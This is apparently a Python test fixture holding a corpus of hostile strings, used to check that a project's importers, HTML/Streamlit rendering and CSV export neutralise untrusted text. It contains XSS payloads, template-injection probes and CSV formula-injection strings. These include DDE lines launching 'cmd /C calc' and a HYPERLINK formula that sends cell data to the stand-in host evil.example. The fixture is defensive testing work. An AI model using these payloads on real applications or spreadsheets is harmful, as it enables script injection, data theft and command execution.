"""Hostile strings, one corpus for every test that puts untrusted text somewhere.

Grouped by the context each one attacks; ``HOSTILE`` is all of them. Tests feed them
through the importers (written whole, read back identically), the text helpers (shown
literally in HTML and Streamlit markdown, never a spreadsheet formula) and the map.
"""

from __future__ import annotations

import re

HTML = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "</textarea></title></style><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e \\u003cb\\u003e",
]
ATTRIBUTE = [
    "\" onmouseover='alert(1)' x=\"",
    "' onfocus='alert(1)' autofocus='",
    "` onclick=`alert(1)",
    'x" style="position:fixed;inset:0" onclick="alert(1)',
]
URL = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    'https://evil.example/"><script>alert(1)</script>',
]
TEMPLATE = [
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> `${x}`",
    "{{constructor.constructor('alert(1)')()}}",
    "{{{triple}}} {{> partial}} [[${7*7}]] {0.__class__} %s %(x)s",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
]
MARKDOWN = [
    "**bold** [link](javascript:x) ![i](http://evil.example/p.png) :red[x]",
    "# Heading\n\n- list\n> quote\n\n| a | b |\n|---|---|",
    "<b>html in markdown</b> <a href='javascript:alert(1)'>x</a>",
    ":material/warning: :smile: :blue-background[x] :rainbow[y]",
    '[x](https://evil.example "title") <https://evil.example> www.evil.example',
    "~~struck~~ `code` ```fence``` _under_ __dunder__",
    "Title\n===\nsub\n---\n1. one\n+ two",
    "&lt;b&gt;not bold&lt;/b&gt; &copy; &#x41;",
]
LATEX = [
    "$\\frac{1}{2}$ \\(x\\)",
    "$$\\href{javascript:alert(1)}{x}$$",
    "costs $5 and $6 \\$7",
    "$\\notacommand$ \\begin{align}x\\end{align}",
]
# As OWASP lists them, also after the whitespace a spreadsheet skips.
CSV_FORMULA = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    "  =1+1",
    "\r=1+1",
    "\n+1+1",
    "\u00a0-1+1",
    "\uff1d1+1",
    "'=1+1",
    "''@x",
    "-",
    "'Massive' strikes",
]
CSV_SHAPE = [
    "Ky\riv",
    "Ky\niv",
    "Ky\r\niv\r\n\r\nend",
    "ends with a CR\r",
    "say \"hi\", then 'bye'; a,b;c|d\tx",
    '""',
    '"',
]
UNICODE = [
    "\u202eevil\u202c \u200b\u200d\ufeff \u2066isolate\u2069",
    "\u2028line\u2029sep \x0b\x0c \x85next \x1b[31mred \x7f",
    "a\x00b",
    "Київ 🚀 كييف 東京 e\u0301 \U0001f1fa\U0001f1e6",
    "Z\u0351\u0300\u0341a\u0362\u0339l\u0315\u035dg\u0352o",
    "\ufffd \ud7ff \U0010ffff",
]

HOSTILE = [*HTML, *ATTRIBUTE, *URL, *TEMPLATE, *MARKDOWN, *LATEX, *CSV_FORMULA, *CSV_SHAPE, *UNICODE]

# What a spreadsheet opening a CSV runs as a formula (OWASP's list, LF and NUL, full-width
# signs), written here independently of droneatlas.text so that a test can catch it.
FORMULA_STARTS = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def runs_as_formula(cell: str) -> bool:
    """True when a spreadsheet would run ``cell`` (leading whitespace is skipped)."""
    first = cell[:1], cell.lstrip()[:1]
    return any(c and c in FORMULA_STARTS for c in first) and not PLAIN_NUMBER.fullmatch(cell)
